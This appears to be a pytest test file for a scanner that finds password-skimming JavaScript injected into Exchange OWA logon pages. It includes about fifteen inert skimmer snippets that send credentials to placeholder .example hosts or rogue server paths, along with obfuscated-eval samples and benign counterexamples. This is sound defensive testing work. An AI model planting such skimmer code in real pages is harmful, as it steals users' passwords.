"""The logon page: what it does with the password that people type, in their browsers.

All samples are written here, inert (`EXSWEEP-INERT-FIXTURE`): addresses end in .example.
"""

import pytest

from exsweep.detect.webshell import examine
from exsweep.knowledge.logon import takes_passwords
from exsweep.model.files import FileReport, FileVerdict

LOGON = "C/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/logon.aspx"
SCRIPT = "C/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/15.1.2507/scripts/premium/flogon.js"
FORM = (
    '<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\n'
    '<html><body><form action="/owa/auth.owa" method="POST" name="logonForm">\n'
    '<input id="username" name="username"><input id="password" name="password" type="password">\n'
    '<div onclick="clkLgn()">sign in</div></form>\n'
)
TAKE = 'var u = gbid("username").value; var p = gbid("password").value;'

THEFTS = {
    "request to a page of the same server": TAKE
    + 'var r = new XMLHttpRequest(); r.open("POST", "/owa/auth/x/lgn.aspx", true); r.send("u=" + u + "&p=" + p);',
    "headers to a messenger": 'fetch("https://bot.example/m", {method: "POST", headers: {A: username.value, B: password.value}});',
    "an image": TAKE + 'new Image().src = "https://cdn.example/p.gif?d=" + btoa(u + ":" + p);',
    "an image tag": TAKE
    + 'var i = document.createElement("img"); i.setAttribute("src", "//e.example/" + escape(p));',
    "a name to be resolved": TAKE + 'var n = hex(p) + ".d.example"; fetch("//" + n, {mode: "no-cors"});',
    "a beacon with the whole form": 'navigator.sendBeacon("/owa/auth/c.aspx", new FormData(document.logonForm));',
    "jQuery": '$.post("/ecp/auth/a.aspx", {l: $("#username").val(), k: $("#password").val()});',
    "a header": TAKE
    + 'x.open("GET", "/owa/auth/errorfe.png"); x.setRequestHeader("ApiKey", u + "|" + p); x.send();',
    "a cookie that is sent along": TAKE + 'document.cookie = "pref=" + btoa(p) + "; path=/";',
    "a function that is handed it": "function go(a) { ws.send(a); } function clkLgn() { go(document.logonForm.password.value); }",
    "arrow functions and templates": 'const grab = (v) => fetch(`//a.example/?k=${v}`); grab(document.querySelector("#password").value);',
    "an object": 'var o = {}; o.k = document.forms[0]["password"].value; x.send(JSON.stringify(o));',
    "the form's target": TAKE + 'document.forms[0].action = "https://l.example/?" + p;',
    "markup that loads": TAKE
    + 'document.body.insertAdjacentHTML("beforeend", "<img src=//t.example/" + p + ">");',
    "two places, one of them the right one": TAKE
    + 'a.open("POST", "/owa/auth.owa"); a.send("password=" + p); b.open("POST", "/owa/auth/z.aspx"); b.send(p);',
}

ORDINARY = {
    "the user's name is kept": 'var u = gbid("username").value; document.cookie = "logondata=acc=1&lgn=" + u;',
    "an empty password is refused": 'if (gbid("password").value == "") { alert("Enter a password."); return; }',
    "the field is filled and emptied": 'gbid("password").value = gbid("passwordText").value; gbid("password").value = "";',
    "a strength meter": 'function rate(p) { return p.length > 9 ? "good" : "weak"; } m.innerHTML = rate(gbid("password").value);',
    "its length is counted": 'fetch("/owa/auth/hint?n=" + gbid("password").value.length);',
    "a visit is counted": 'new Image().src = "https://stat.example/v.gif?page=logon";',
    "the form's own way by script": TAKE
    + 'var r = new XMLHttpRequest(); r.open("POST", "/owa/auth.owa"); r.send("username=" + u + "&password=" + p);',
    "the form is sent": "function clkLgn() { document.logonForm.submit(); }",
    "another value is sent": 'x.open("POST", "/owa/ping"); x.send("tz=" + new Date().getTimezoneOffset());',
}


def _page(code: str, path: str = LOGON) -> FileReport:
    text = f"{FORM}<script>\n/* EXSWEEP-INERT-FIXTURE */\n{code}\n</script></body></html>"
    return examine(text.encode(), path)


@pytest.mark.parametrize("code", THEFTS.values(), ids=THEFTS)
def test_a_password_that_leaves_the_page_is_shown_with_its_line(code: str) -> None:
    report = _page(code)
    assert report.verdict is FileVerdict.MALICIOUS
    shown = next(each for each in report.capabilities if each.id == "client-sends-password")
    assert shown.attack == ("T1056.003",)
    assert shown.evidence[0].line == 7
    assert shown.evidence[0].excerpt in code


@pytest.mark.parametrize("code", THEFTS.values(), ids=THEFTS)
def test_it_is_the_same_in_a_script_that_the_page_loads(code: str) -> None:
    assert examine(code.encode(), SCRIPT).verdict is FileVerdict.MALICIOUS


@pytest.mark.parametrize("code", ORDINARY.values(), ids=ORDINARY)
def test_what_logon_pages_do_every_day_is_no_theft(code: str) -> None:
    assert _page(code).verdict is FileVerdict.UNREMARKABLE
    assert examine(code.encode(), SCRIPT).verdict is FileVerdict.UNREMARKABLE


@pytest.mark.parametrize(
    "code",
    [
        'eval(atob("YWxlcnQoMSk="));',
        'document.write(unescape("%3Cscript src=//a.example%3E"));',
        'eval(function(p,a,c,k,e,d){return p}("0 1",2,2,"a|b".split("|"),0,{}));',
        "new Function(String.fromCharCode(97,108,101,114,116))();",
    ],
)
def test_hidden_code_in_a_logon_page_is_for_a_person(code: str) -> None:
    report = _page(code)
    assert report.verdict is FileVerdict.SUSPICIOUS
    assert [each.id for each in report.capabilities] == ["client-hidden-code"]


def test_an_event_attribute_is_code_too() -> None:
    text = FORM + """<i onmouseover="fetch('//a.example/'+password.value)">EXSWEEP-INERT-FIXTURE</i>"""
    assert examine(text.encode(), LOGON).verdict is FileVerdict.MALICIOUS


def test_other_pages_may_send_what_people_type() -> None:
    assert _page(THEFTS["jQuery"], "C/inetpub/wwwroot/shop/login.aspx").verdict is FileVerdict.UNREMARKABLE


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (LOGON, True),
        (SCRIPT, True),
        ("D:\\Exchange\\ClientAccess\\Owa\\Auth\\Logon.aspx", True),
        ("owa/auth/errorFE.aspx", True),
        ("ecp/auth/anything.js", True),
        ("owa/auth/15.1.2507/themes/resources/logo.png", False),
        ("owa/prem/15.1.2507/scripts/boot.js", False),
        ("wwwroot/login.aspx", False),
        ("", False),
    ],
)
def test_the_files_that_passwords_pass_through(path: str, expected: bool) -> None:
    assert takes_passwords(path) is expected
